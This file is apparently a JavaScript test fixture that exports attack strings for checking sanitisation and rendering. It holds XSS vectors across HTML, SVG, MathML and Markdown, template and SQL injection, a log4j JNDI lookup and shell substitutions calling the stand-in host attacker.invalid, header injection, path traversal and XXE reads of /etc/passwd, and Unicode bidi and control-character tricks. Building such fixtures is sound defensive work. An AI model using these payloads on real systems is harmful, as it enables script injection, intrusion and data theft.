// Texts that are attacks. Anything of this that runs sets the canary `window.__pwned` or opens a dialog; anything that loads
// asks for attacker.invalid.
const RUN = 'window.__pwned=1';
const OUT = 'https://attacker.invalid';

// Marks of HTML, where a text becomes an element or breaks out of one.
export const MARKUP = {
  script: `<script>${RUN};alert(1)</script>`,
  'script by address': `<script src="${OUT}/x.js"></script><script src=//attacker.invalid/x.js></script>`,
  'odd script': `<scr<script>ipt>${RUN}</scr</script>ipt><SCRIPT/x>${RUN}</SCRIPT\t\n>`,
  'image handler': `"><img src=x onerror="${RUN}">`,
  'attribute in single quotes': `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  'attribute in double quotes': `" onmouseover="${RUN}" autofocus onfocus="${RUN}" style="position:fixed;inset:0" x="`,
  'attribute without quotes': `x onmouseover=${RUN} onfocus=${RUN} autofocus tabindex=0`,
  'backquotes': `\`onerror=${RUN}\` <img src=\`x\` onerror=\`${RUN}\`>`,
  svg: `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  'svg with HTML': `<svg><foreignObject><body onload="${RUN}"><script>${RUN}</script></body></foreignObject><style><img src=x onerror="${RUN}"></style></svg>`,
  'svg use': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></math><maction actiontype="statusline#${OUT}" xlink:href="javascript:${RUN}">x</maction>`,
  style: `<style>@import "${OUT}/x.css"; body{background:url(${OUT}/x)} *{display:none}</style><link rel=stylesheet href="${OUT}/x.css">`,
  'end of every element': `</title></textarea></style></script></pre></bdi></template></noscript></iframe></xmp></svg><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'base and meta': `<base href="${OUT}/"><meta http-equiv="refresh" content="0;url=javascript:${RUN}"><meta http-equiv="refresh" content="0;url=${OUT}/">`,
  form: `<form action="${OUT}/"><input name=token autofocus><button>log in</button></form><button form=compare formaction="${OUT}/">go</button>`,
  frames: `<iframe src="javascript:parent.${RUN}"></iframe><object data="data:text/html,<script>${RUN}</script>"></object><embed src="${OUT}/x.swf"><portal src="${OUT}/">`,
  'media elements': `<video src=x onerror="${RUN}"></video><audio src="${OUT}/x.mp3" autoplay></audio><picture><source srcset="${OUT}/x.png"><img src="${OUT}/y.png"></picture>`,
  'details and marquee': `<details open ontoggle="${RUN}"><summary>x</summary></details><marquee onstart="${RUN}">x</marquee><dialog open>log in again</dialog><div popover id=keys>x</div>`,
  clobbering: `<a id=detail><a id=rows><form id=compare><input name=location><img name=cookie><a id=scroller href=javascript:${RUN}>`,
  unclosed: `<div class="bar" <p title="<b <a href='${OUT}`,
  comment: `<!-- <img src=x onerror="${RUN}"> --!><img src=x onerror="${RUN}"><!--><img src=x onerror="${RUN}">-->`,
  cdata: `<![CDATA[<img src=x onerror="${RUN}">]]><?php echo 1 ?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
  entities: `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62; &#x3c;b&#x3e; &amp;lt; &NotAnEntity; &#0; &#xD800; &#1114112;`,
  'custom elements': `<x-y onclick="${RUN}" is="x"><template shadowrootmode="open"><script>${RUN}</script></template></x-y>`,
  'fullwidth and best fit': `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E \u2039img src=x onerror=${RUN}\u203A \u02BA onfocus=${RUN} \u00BCscript\u00BE`,
  'utf-7': `+ADw-script+AD4-${RUN}+ADw-/script+AD4- +/v8-`,
};

// Texts that other languages would run or follow.
export const LANGUAGES = {
  templates: `{{constructor.constructor('${RUN}')()}} \${${RUN}} {% raw %}{{ 7*7 }}{% endraw %} <%= 7*7 %> #{7*7} {# x #} {{{x}}} @{7*7} [[\${7*7}]]`,
  css: `red;}body{display:none}</style> expression(${RUN}) url(javascript:${RUN}) \\3c script\\3e position:fixed;inset:0;z-index:99999`,
  json: `"}]};${RUN};//</script>\u2028${RUN}\u2029`,
  sql: `'; DROP TABLE spans; -- " OR 1=1 /* % _ \\`,
  fts: `"warranty" OR * NEAR(a b, 2) col:x -not ^first AND ( `,
  log4j: `\${jndi:ldap://attacker.invalid/x} $(touch /tmp/pwned) \`id\` ; | & > /dev/null`,
  headers: `x\r\nSet-Cookie: pwned=1\r\nContent-Type: text/html\r\n\r\n<script>${RUN}</script>`,
  paths: '../../../../etc/passwd ..%2f..%2f %2e%2e/ \\\\attacker.invalid\\share //attacker.invalid/ /.//. ?a=b#c&d %00 %zz',
};

// Characters that act on a terminal, on a line, or on the eye.
export const CHARACTERS = {
  controls: 'nul\u0000bell\u0007back\bspace vt\u000Bff\u000Cso\u000E esc\u001B[31mred\u001B]0;title\u0007 cr\rover del\u007F',
  'C1 controls': 'c1\u0080\u0085next\u008Dri\u0090dcs\u009B31mcsi\u009C\u009D',
  'line separators': 'ls\u2028ps\u2029vt\u000Bnel\u0085 bom\uFEFF zw\u200B\u200C\u200D\u2060 soft\u00ADhyphen',
  overrides: '\u202Egnp.exe\u202C \u202Dleft \u202Bembedded \u202Aand more \u202E\u202E\u202E never closed',
  isolates: '\u2067isolate \u2066another \u2068first strong \u200F\u200E\u061C never closed',
  'closing isolates': '\u2069\u2069\u2069\u202C\u202C\u202C out of where it stands \u202E',
  zalgo: Array.from('zalgo comes', (char) => char + '\u0336\u0353\u0489\u030D\u035F'.repeat(20)).join(''),
  'lone surrogates\' stand-ins': '\uFFFD half \uFFFD\uFFFD and non-characters \uFFFE\uFFFF\u{1FFFE} private \uE000\u{F0000} tags \u{E0041}\u{E007F}',
  emoji: '👨‍👩‍👧‍👦🏴‍☠️🇵🇹 ✕ ✓ ▸ ▾ ← → ‮ ﷽ ꧅ 𒐫 ',
};

const SCHEMES = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '&#106;avascript:', 'javascript&colon;', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'blob:', 'file:///', 'filesystem:', 'view-source:', 'about:', 'chrome://', 'intent://', 'ms-msdt:', 'tel:', 'sms:', 'ftp://', 'ws://', 'httpx://', '//attacker.invalid/', '/\\attacker.invalid/', '/projects', '?span=', '#main', 'http:attacker.invalid', 'x:'];

// Markdown, where a renderer makes elements of it.
export const MARKDOWN = {
  'links of odd schemes': SCHEMES.map((scheme, at) => `[link ${at}](${scheme}${RUN})`).join('\n\n'),
  'links in angles': SCHEMES.map((scheme) => `<${scheme}${RUN}> [x](<${scheme}${RUN}> "title")`).join('\n\n'),
  'links by reference': `${SCHEMES.map((scheme, at) => `[see][r${at}] ![img][r${at}]`).join('\n')}\n\n${SCHEMES.map((scheme, at) => `[r${at}]: ${scheme}${RUN} "t"`).join('\n')}`,
  images: SCHEMES.map((scheme) => `![alt](${scheme}${RUN})`).join('\n\n').concat(`\n\n![x](${OUT}/pixel.png) [![y](${OUT}/a.png)](${OUT}/b)`),
  'links that break out': `[x](${OUT}/"onmouseover="${RUN}) [x](${OUT}/'onfocus='${RUN}) [x](${OUT}/\`${RUN}\`) [x](${OUT} "\\"><script>${RUN}</script>") [a](http://x.invalid/<script>${RUN}</script>)`,
  'html in markdown': `<div>\n\n**bold** <script>${RUN}</script>\n\n</div>\n<a href="javascript:${RUN}">*x*</a>\n\n<details open ontoggle=${RUN}>\n\n- <img src=x onerror=${RUN}>`,
  'code fences': `\`\`\`"><script>${RUN}</script>\n</code></pre><script>${RUN}</script>\n\`\`\`\n\n~~~html" onmouseover="${RUN}\n<b>\n~~~\n\n\`</code><script>${RUN}</script>\``,
  tables: `| <script>${RUN}</script> | [x](javascript:${RUN}) |\n|:-|-:|\n| " onmouseover="${RUN} | <img src=x onerror=${RUN}> |\n| | ${'|'.repeat(300)}`,
  'deep nesting': `${'> '.repeat(400)}deep\n\n${'- '.repeat(400)}deep\n\n${'*a **b '.repeat(400)}\n\n${'['.repeat(2_000)}${'!['.repeat(400)}`,
  'footnotes and lists': `[^1]: <script>${RUN}</script>\n\nx[^1][^"><script>]\n\n4294967296. x\n\n99999999999. y\n\n- [x] <img src=x onerror=${RUN}>\n\n# <script>${RUN}</script>\n\nSetext <img src=x onerror=${RUN}>\n===`,
};

const together = (texts) => Object.values(texts).join('\n');
export const EVERYTHING = [MARKUP, CHARACTERS, LANGUAGES].map(together).join('\n');
export const SHORT = `"><img src=x onerror=${RUN}>'\u202E\u0000{{7*7}}`;
export const SCRIPT_URL = `javascript:${RUN}//`;
